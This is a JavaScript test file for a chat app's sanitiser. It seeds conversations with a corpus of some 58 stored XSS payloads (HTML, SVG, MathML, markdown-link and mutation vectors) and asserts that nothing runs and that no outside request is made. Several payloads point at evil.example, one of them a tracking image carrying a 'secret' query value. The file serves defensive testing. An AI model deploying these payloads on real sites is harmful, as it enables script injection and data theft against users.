#!/usr/bin/env node
// Stored cross-site scripting: what is known to have worked elsewhere, as
// prompt, as title, and as answer (the gpt mock says what it is told). The
// sanitiser is to leave nothing for the policy to stop.

import assert from 'node:assert/strict'
import { test } from 'node:test'

import { suite } from './suite.mjs'

const RUN = 'window.hacked=1'

const CORPUS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<style>@import 'javascript:${RUN}'</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<a href="javascript:${RUN}">raw</a>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `[link](javascript:${RUN})`,
  `[link](JaVaScRiPt:${RUN})`,
  `[link](java\tscript:${RUN})`,
  `[link](javascript&colon;${RUN})`,
  `[link](&#106;avascript:${RUN})`,
  `[link](vbscript:${RUN})`,
  `[link](data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+)`,
  `<javascript:${RUN}>`,
  `[a](https://x" onmouseover="${RUN})`,
  `[a](<https://x"onclick=${RUN}>)`,
  `[a](https://x 'x" onclick="${RUN}')`,
  `[ref]\n\n[ref]: javascript:${RUN} "x"`,
  `![x](x" onerror="${RUN})`,
  `![x](javascript:${RUN})`,
  `![x](https://evil.example/track.png?q=secret)`,
  `![" onerror="${RUN}](x)`,
  '`<img src=x onerror=' + RUN + '>`',
  '```html\n<img src=x onerror=' + RUN + '>\n```',
  '```x" onmouseover="' + RUN + '\ncode\n```',
  '```<img src=x onerror=' + RUN + '>\ncode\n```',
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\<img src=x onerror=${RUN}\\>`,
  `**<img src=x onerror=${RUN}>**`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<x onclick=${RUN} tabindex=0 autofocus>x</x>`,
  `<a id=body name=location href=x>clobber</a>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u2028<img src=x onerror=${RUN}>`,
]

const TAGS = 'script,img,svg:not(.icon):not(.logo),iframe,object,embed,' +
  'style,base,form:not(.composer),video,math,template,details,x,meta,link'

// What the page made of it: anything that could act.
function suspects(tags) {
  const found = []
  for (const node of document.querySelectorAll('.row *, .side *, .head *')) {
    if (node.matches(tags))
      found.push(node.outerHTML)
    for (const { name, value } of node.attributes)
      if (/^on/i.test(name) || (name === 'href' &&
        !/^(#|https?:|mailto:)/i.test(value)) || (name === 'style' &&
        node.closest('.markdown')))
        found.push(node.outerHTML)
  }
  return { found, hacked: window.hacked }
}

async function seed(person, prompts) {
  const conversation = await (await person.api('POST', '/v1/conversations',
    { metadata: { title: prompts[0].slice(0, 200) } })).json()
  for (const prompt of prompts) {
    const reply = await person.api('POST', '/v1/responses',
      { model: 'gpt', input: prompt, conversation: conversation.id })
    assert.equal(reply.status(), 200, await reply.text())
  }
  return conversation.id
}

suite((world) => {
  test('nothing a prompt, a title or an answer holds is run', async () => {
    const ann = await world.person()
    const requests = []
    ann.context.on('request', (request) => requests.push(request.url()))
    ann.page.on('dialog', (dialog) => assert.fail(dialog.message()))
    for (let i = 0; i < CORPUS.length; i += 6) {
      const part = CORPUS.slice(i, i + 6)
      await ann.page.goto(`/#/c/${await seed(ann, part)}`)
      await ann.page.locator('.markdown').first().waitFor()
      for (let y = 0; y < 3; y++) {
        await ann.page.locator('.scroller').evaluate((box, at) => {
          box.scrollTop = box.scrollHeight * at / 2
        }, y)
        await ann.page.waitForTimeout(40)
        assert.deepEqual(await ann.page.evaluate(suspects, TAGS),
          { found: [], hacked: undefined })
      }
    }
    assert.deepEqual(requests.filter((url) =>
      !url.startsWith(world.server.base)), [])
  })

  test('what a link may be', async () => {
    const ann = await world.person()
    await ann.ask('[good](https://example.com/?a=1&b=2)')
    const link = ann.page.locator('.markdown a')
    assert.equal(await link.getAttribute('href'),
      'https://example.com/?a=1&b=2')
    assert.equal(await link.getAttribute('rel'),
      'noopener noreferrer nofollow')
  })
})
